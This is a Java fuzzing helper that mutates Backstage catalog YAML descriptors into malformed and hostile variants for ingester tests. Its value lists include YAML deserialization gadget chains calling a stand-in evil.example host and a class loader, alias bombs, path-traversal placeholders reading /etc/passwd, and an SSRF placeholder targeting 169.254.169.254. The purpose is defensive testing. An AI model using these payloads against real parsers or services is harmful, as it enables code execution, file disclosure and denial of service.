package com.cataloggraph.ingest.testing;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Random;
import java.util.function.BiFunction;

/**
 * Turns a real descriptor into a hostile one, reproducibly from a {@link Random}: broken bytes and
 * encodings, shuffled lines and indentation, values of the wrong type, depth and size, YAML
 * features a safe loader must refuse (tags naming classes, alias bombs, recursive aliases),
 * Backstage placeholders aiming outside the repository, refs that do not parse.
 */
public final class DescriptorMutator {

    /** Mutants stay below this: well above the ingester's 3 MB file limit, far below the test JVM's memory. */
    private static final int MAX_BYTES = 8 * 1024 * 1024;

    /** Values dropped in place of a scalar, or appended as a new key. */
    private static final List<String> HOSTILE_VALUES = List.of(
            "[]", "{}", "null", "~", "-1", "0x1F", "1e309", ".nan", "-.inf", "2001-12-14", "on", "NO", "010",
            "!!binary AAAA", "!!java.lang.Runtime x", "!<tag:yaml.org,2002:java.net.URL> http://evil.example/",
            "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x/\"]]]]",
            "&a [*a]", "*undefined", "\"\\u0000\\uD800\"", "'''", "\"unterminated", "|\n  block\n   text",
            ">-\n folded", "? complex\n: key", "<<: *a", "{$text: ../../../../etc/passwd}", "{$text: /etc/hosts}",
            "{$json: ./missing.json}", "{$yaml: ./catalog-info.yaml}", "{$openapi: http://169.254.169.254/}",
            "{$text: [1, 2]}", "{$text: x, other: y}", "group:default/", "component:", ":::", "user:a/b/c",
            "[component:a, {x: 1}, [2]]", "\"\u202Eevil\"", "\"名前\"", "%!@#`");

    /** Lines inserted whole: document markers, directives, bombs, deep and wide structures. */
    private static final List<String> HOSTILE_LINES = List.of(
            "---", "...", "%YAML 1.1", "%TAG ! tag:evil.example,2000:", "--- !!set", "apiVersion: [x]",
            "kind: {a: b}", "metadata: plain", "metadata:\n  name: [a]", "spec: 42",
            "a: &a [x, x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a, *a]\n"
                    + "c: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b, *b]\nd: &d [*c, *c, *c, *c, *c, *c, *c, *c, *c, *c]\n"
                    + "e: [*d, *d, *d, *d, *d, *d, *d, *d, *d, *d]",
            "x: &loop {self: *loop}", "\t- tab", "  - item", "? [a, b]\n: c");

    /** Mutations that break bytes, encoding and layout: most results fail to parse at all. */
    private static final List<BiFunction<Random, byte[], byte[]>> BYTES = List.of(
            DescriptorMutator::flipBits, DescriptorMutator::insertBytes, DescriptorMutator::deleteRange,
            DescriptorMutator::duplicateRange, DescriptorMutator::truncate, DescriptorMutator::shuffleLines,
            DescriptorMutator::reindent);

    /** Mutations of values and structure: results often still parse, and reach validation and relations. */
    private static final List<BiFunction<Random, byte[], byte[]>> VALUES = List.of(
            DescriptorMutator::replaceValue, DescriptorMutator::replaceValue, DescriptorMutator::spliceValueIntoKey,
            DescriptorMutator::insertLine, DescriptorMutator::nest, DescriptorMutator::inflate,
            DescriptorMutator::repeatDocuments, DescriptorMutator::longFormattedValue);

    /** One to four mutations of {@code seed}; half the time only of values, so validation is reached too. */
    public byte[] mutate(Random random, byte[] seed) {
        List<BiFunction<Random, byte[], byte[]>> kinds = new ArrayList<>(VALUES);
        if (random.nextBoolean()) {
            kinds.addAll(BYTES);
        }
        byte[] bytes = seed;
        int rounds = 1 + random.nextInt(4);
        for (int i = 0; i < rounds; i++) {
            bytes = kinds.get(random.nextInt(kinds.size())).apply(random, bytes);
        }
        return bytes;
    }

    private static byte[] flipBits(Random random, byte[] bytes) {
        byte[] copy = bytes.clone();
        for (int i = 0, n = 1 + random.nextInt(8); i < n && copy.length > 0; i++) {
            copy[random.nextInt(copy.length)] ^= (byte) (1 << random.nextInt(8));
        }
        return copy;
    }

    /** Control characters, invalid UTF-8, a BOM, surrogates encoded as UTF-8, CR and NUL. */
    private static byte[] insertBytes(Random random, byte[] bytes) {
        byte[][] choices = {{0}, {(byte) 0xFF}, {(byte) 0xC3}, {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF},
                {(byte) 0xED, (byte) 0xA0, (byte) 0x80}, {'\r'}, {'\t'}, {0x1B, '[', '2', 'J'}, {(byte) 0xE9},
                {(byte) 0xF4, (byte) 0x90, (byte) 0x80, (byte) 0x80}};
        return splice(bytes, random.nextInt(bytes.length + 1), 0, choices[random.nextInt(choices.length)]);
    }

    private static byte[] deleteRange(Random random, byte[] bytes) {
        if (bytes.length == 0) {
            return bytes;
        }
        int from = random.nextInt(bytes.length);
        return splice(bytes, from, 1 + random.nextInt(Math.min(64, bytes.length - from)), new byte[0]);
    }

    private static byte[] duplicateRange(Random random, byte[] bytes) {
        if (bytes.length == 0) {
            return bytes;
        }
        int from = random.nextInt(bytes.length);
        byte[] range = Arrays.copyOfRange(bytes, from, from + 1 + random.nextInt(Math.min(200, bytes.length - from)));
        return splice(bytes, random.nextInt(bytes.length + 1), 0, range);
    }

    private static byte[] truncate(Random random, byte[] bytes) {
        return Arrays.copyOf(bytes, bytes.length == 0 ? 0 : random.nextInt(bytes.length));
    }

    private static byte[] shuffleLines(Random random, byte[] bytes) {
        List<String> lines = lines(bytes);
        if (lines.size() < 2) {
            return bytes;
        }
        int a = random.nextInt(lines.size());
        int b = random.nextInt(lines.size());
        String line = lines.get(a);
        lines.set(a, lines.get(b));
        lines.set(b, line);
        if (random.nextBoolean()) {
            lines.remove(random.nextInt(lines.size()));
        }
        return join(lines);
    }

    private static byte[] reindent(Random random, byte[] bytes) {
        List<String> lines = lines(bytes);
        if (lines.isEmpty()) {
            return bytes;
        }
        int i = random.nextInt(lines.size());
        String stripped = lines.get(i).stripLeading();
        String indent = switch (random.nextInt(4)) {
            case 0 -> "";
            case 1 -> "\t";
            case 2 -> " ".repeat(1 + random.nextInt(12));
            default -> " ".repeat(Math.max(0, lines.get(i).length() - stripped.length() + 1));
        };
        lines.set(i, indent + stripped);
        return join(lines);
    }

    /** The text after a {@code key: } is replaced by a hostile value. */
    private static byte[] replaceValue(Random random, byte[] bytes) {
        List<String> lines = lines(bytes);
        List<Integer> keyed = new ArrayList<>();
        for (int i = 0; i < lines.size(); i++) {
            if (lines.get(i).contains(": ")) {
                keyed.add(i);
            }
        }
        if (keyed.isEmpty()) {
            return insertLine(random, bytes);
        }
        int i = keyed.get(random.nextInt(keyed.size()));
        String line = lines.get(i);
        String value = asBytes(HOSTILE_VALUES.get(random.nextInt(HOSTILE_VALUES.size())));
        lines.set(i, line.substring(0, line.indexOf(": ") + 2) + value);
        return join(lines);
    }

    private static byte[] insertLine(Random random, byte[] bytes) {
        List<String> lines = lines(bytes);
        lines.add(random.nextInt(lines.size() + 1), asBytes(HOSTILE_LINES.get(random.nextInt(HOSTILE_LINES.size()))));
        return join(lines);
    }

    private static byte[] spliceValueIntoKey(Random random, byte[] bytes) {
        List<String> lines = lines(bytes);
        String key = List.of("apiVersion", "kind", "metadata", "spec", "name", "namespace", "owner", "type",
                "dependsOn", "providesApis", "targets", "target", "definition", "children", "memberOf", "annotations",
                "labels", "tags", "links").get(random.nextInt(19));
        String value = asBytes(HOSTILE_VALUES.get(random.nextInt(HOSTILE_VALUES.size())));
        String indent = random.nextBoolean() ? "" : "  ";
        lines.add(random.nextInt(lines.size() + 1), indent + key + ": " + value);
        return join(lines);
    }

    /** A name, tag, label or ref almost valid and very long: a format check must not backtrack on it. */
    private static byte[] longFormattedValue(Random random, byte[] bytes) {
        String unit = List.of("a-", "a.", "a_", "a:", "ab-cd.", "x/").get(random.nextInt(6));
        String value = unit.repeat(1 + random.nextInt(50_000)) + List.of("!", "-", "", " ", "/").get(random.nextInt(5));
        String key = List.of("name", "namespace", "kind", "owner", "system", "tags", "labels", "apiVersion")
                .get(random.nextInt(8));
        String line = switch (key) {
            case "tags" -> "  tags: [\"" + value + "\"]";
            case "labels" -> "  labels: {\"" + value + "\": \"" + value + "\"}";
            case "apiVersion", "kind" -> key + ": \"" + value + "\"";
            default -> "  " + key + ": \"" + value + "\"";
        };
        List<String> lines = lines(bytes);
        lines.add(random.nextInt(lines.size() + 1), line);
        return join(lines);
    }

    /** A value nested deeper than any limit, as flow or block YAML. */
    private static byte[] nest(Random random, byte[] bytes) {
        int depth = 10 + random.nextInt(3000);
        String deep = random.nextBoolean() ? "[".repeat(depth) + "]".repeat(depth)
                : "{a: ".repeat(depth) + "1" + "}".repeat(depth);
        List<String> lines = lines(bytes);
        lines.add(random.nextInt(lines.size() + 1), "deep: " + deep);
        return join(lines);
    }

    /** One very long scalar, key or list. */
    private static byte[] inflate(Random random, byte[] bytes) {
        int size = 1 + random.nextInt(400_000);
        String big = switch (random.nextInt(3)) {
            case 0 -> "description: " + "x".repeat(size);
            case 1 -> "k".repeat(Math.min(size, 200_000)) + ": v";
            default -> "tags: [" + "a, ".repeat(size / 3) + "a]";
        };
        List<String> lines = lines(bytes);
        lines.add(random.nextInt(lines.size() + 1), big);
        return join(lines);
    }

    /** Many documents in one file, up to a few MB: past the size limit sometimes, never past memory. */
    private static byte[] repeatDocuments(Random random, byte[] bytes) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        int most = Math.max(1, MAX_BYTES / (bytes.length + 5));
        for (int i = 0, n = Math.min(most, 2 + random.nextInt(200)); i < n; i++) {
            out.writeBytes(bytes);
            out.writeBytes("\n---\n".getBytes(StandardCharsets.UTF_8));
        }
        return out.toByteArray();
    }

    private static byte[] splice(byte[] bytes, int at, int remove, byte[] insert) {
        byte[] result = new byte[bytes.length - remove + insert.length];
        System.arraycopy(bytes, 0, result, 0, at);
        System.arraycopy(insert, 0, result, at, insert.length);
        System.arraycopy(bytes, at + remove, result, at + insert.length, bytes.length - at - remove);
        return result;
    }

    /** Lines of the text, decoded leniently: a mutation may already have broken the encoding. */
    private static List<String> lines(byte[] bytes) {
        return new ArrayList<>(Arrays.asList(new String(bytes, StandardCharsets.ISO_8859_1).split("\n", -1)));
    }

    /** Text as its UTF-8 bytes in the one-char-per-byte form {@link #lines} works in. */
    private static String asBytes(String text) {
        return new String(text.getBytes(StandardCharsets.UTF_8), StandardCharsets.ISO_8859_1);
    }

    private static byte[] join(List<String> lines) {
        return String.join("\n", lines).getBytes(StandardCharsets.ISO_8859_1);
    }
}
